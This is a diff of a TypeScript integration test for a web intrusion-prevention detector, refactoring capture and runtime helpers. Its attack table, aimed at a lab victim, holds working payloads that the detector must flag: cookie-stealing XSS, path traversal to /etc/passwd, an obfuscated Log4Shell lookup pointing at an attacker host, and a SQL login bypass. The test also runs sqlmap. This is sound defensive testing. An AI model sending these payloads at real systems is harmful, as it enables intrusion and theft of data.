@@ -12,10 +12,9 @@ import assert from 'node:assert/strict';
 import fs from 'node:fs';
 import os from 'node:os';
 import path from 'node:path';
-import { once } from 'node:events';
-import type { ChildProcess } from 'node:child_process';
-import { Lab, netnsUnavailable, toolMissing, type Netns } from '../support/netns';
-import { startRuntime, type FlowNode, type Runtime } from '../support/red-runtime';
+import { Lab, netnsUnavailable, toolMissing } from '../support/netns';
+import type { Runtime } from '../support/red-runtime';
+import { alertsOfCapture, curl, startWebCapture } from '../support/web-capture';
 import { startHttpTarget } from '../support/http-target';
 import type { Alert } from '../../lib/detect/alert';
 
@@ -39,7 +38,7 @@ let sqlmapLog = '';
 
 /** Attacks sent with curl from the attacker: curl arguments and the rule each must raise. */
 const CURL_ATTACKS: { what: string; args: string[]; rules: string[]; matched: RegExp }[] = [
-  { what: 'reflected XSS, percent-encoded', args: [`http://${VIC_A}:${PORT}/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E`], rules: ['payload.xss.script'], matched: /after URL-decoding: "<script"/ },
+  { what: 'reflected XSS, percent-encoded', args: [`http://${VIC_A}:${PORT}/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E`], rules: ['payload.xss.script'], matched: /^HTTP uri from .*: "<script"/ },
   { what: 'XSS event handler', args: ['-G', '--data-urlencode', 'q=<img src=x onerror=alert(1)>', `http://${VIC_A}:${PORT}/search`], rules: ['payload.xss.event_handler'], matched: /"<img src=x onerror="/ },
   { what: 'path traversal to /etc/passwd', args: ['--path-as-is', `http://${VIC_A}:${PORT}/files/../../../../etc/passwd`], rules: ['payload.traversal.dotdot', 'payload.traversal.sensitive_file'], matched: /\): "(\/\.\.\/|\/etc\/passwd)"/ },
   { what: 'double-encoded traversal', args: [`http://${VIC_A}:${PORT}/download?file=%252e%252e%252fconfig.php`], rules: ['payload.traversal.dotdot'], matched: /after URL-decoding twice: "=\.\.\/"/ },
@@ -49,27 +48,6 @@ const CURL_ATTACKS: { what: string; args: string[]; rules: string[]; matched: Re
   { what: 'obfuscated Log4Shell in the query', args: ['-g', `http://${VIC_A}:${PORT}/?x=\${\${lower:j}ndi:ldap://${ATK}/a}`], rules: ['payload.log4j.jndi'], matched: /"\$\{\$\{lower:j\}ndi:"/ },
   { what: 'login bypass in a form body', args: ['--data', "user=admin' or '1'='1&pw=x", `http://${VIC_A}:${PORT}/login`], rules: ['payload.sqli.tautology'], matched: /"or '1'='1"/ },
 ];
-
-async function curl(ns: Netns, args: string[]): Promise<void> {
-  await ns.exec('curl', ['-s', '-o', '/dev/null', '--max-time', '5', ...args], { timeoutMs: 10_000 });
-}
-
-async function stop(child: ChildProcess): Promise<void> {
-  if (child.exitCode !== null || child.signalCode !== null) return;
-  child.kill('SIGINT');
-  await once(child, 'exit');
-}
-
-function flow(file: string): FlowNode[] {
-  return [
-    { id: 'tab', type: 'tab', label: 'payload' },
-    { id: 'cap', z: 'tab', type: 'pcap-in', name: '', source: 'file', filename: file, mode: 'analyze', speed: '1', batchSize: '64', batchDelay: '20', autostart: true, wires: [['pm'], ['done']] },
-    { id: 'pm', z: 'tab', type: 'payload-match', name: 'web ips', includeDefaults: true, rules: '[]', rulesFile: '', action: 'alert', allowlist: '', cooldownS: '0', maxTracked: '50000', wires: [['pkts'], ['alerts']] },
-    { id: 'pkts', z: 'tab', type: 'debug', active: false, wires: [] },
-    { id: 'alerts', z: 'tab', type: 'debug', active: false, wires: [] },
-    { id: 'done', z: 'tab', type: 'debug', active: false, wires: [] },
-  ];
-}
 
 before(async () => {
   skip = (await netnsUnavailable()) ?? (await toolMissing('tcpdump', 'curl', 'sqlmap', 'timeout'));
@@ -86,18 +64,7 @@ before(async () => {
   await startHttpTarget(vic, '0.0.0.0', PORT);
 
   const file = path.join(tmp, 'web.pcap');
-  const tcpdump = vic.spawn('tcpdump', ['-i', 'any', '-n', '--immediate-mode', '-U', '-s', '0', '-w', file, 'tcp', 'port', String(PORT)], { stdio: ['ignore', 'ignore', 'pipe'] });
-  let tcpdumpErr = '';
-  await new Promise<void>((resolve, reject) => {
-    const t = setTimeout(() => reject(new Error(`tcpdump did not start: ${tcpdumpErr}`)), 10_000);
-    tcpdump.stderr?.on('data', (d: Buffer) => {
-      tcpdumpErr += d.toString();
-      if (tcpdumpErr.includes('listening on')) {
-        clearTimeout(t);
-        resolve();
-      }
-    });
-  });
+  const capture = await startWebCapture(vic, file, PORT);
 
   // Benign first, from the client: ordinary requests, then a page load's burst of short connections.
   const base = `http://${VIC_B}:${PORT}`;
@@ -123,28 +90,9 @@ before(async () => {
       sqlmapLog = err.stdout ?? '';
     });
 
-  // tcpdump writes each packet as it comes (-U); stop it only once a last marker request is in the file,
-  // so nothing still in flight is lost.
-  await curl(cli, [`${base}/end-of-capture-marker`]);
-  for (let i = 0; i < 100 && !fs.readFileSync(file).includes('end-of-capture-marker'); i++) await new Promise((r) => setTimeout(r, 100));
-  await stop(tcpdump);
-  if (process.env.IPS_KEEP_CAPTURE) fs.copyFileSync(file, process.env.IPS_KEEP_CAPTURE);
-  const st = fs.statSync(file);
-  assert.ok(st.size > 24, 'capture written');
-
-  // Start empty and watch the outputs before deploying: pcap-in starts reading on deploy.
-  runtime = await startRuntime([]);
-  const box = runtime.inbox('alerts');
-  await runtime.deploy(flow(file));
-  const done = await runtime.waitFor('done', (m) => m.length >= 1, 60_000);
-  capturedPackets = (done[0].msg.payload as { packets: number }).packets;
-  // Alerts leave payload-match in the same step as each batch; give the last hop a moment.
-  let last = -1;
-  while (box.length !== last) {
-    last = box.length;
-    await new Promise((r) => setTimeout(r, 300));
-  }
-  alerts = box.map((m) => m.msg.payload as Alert);
+  await capture.stop(cli, `${base}/end-of-capture-marker`);
+  assert.ok(fs.statSync(file).size > 24, 'capture written');
+  ({ runtime, alerts, packets: capturedPackets } = await alertsOfCapture(file, 'web ips'));
 });
 
 after(async () => {
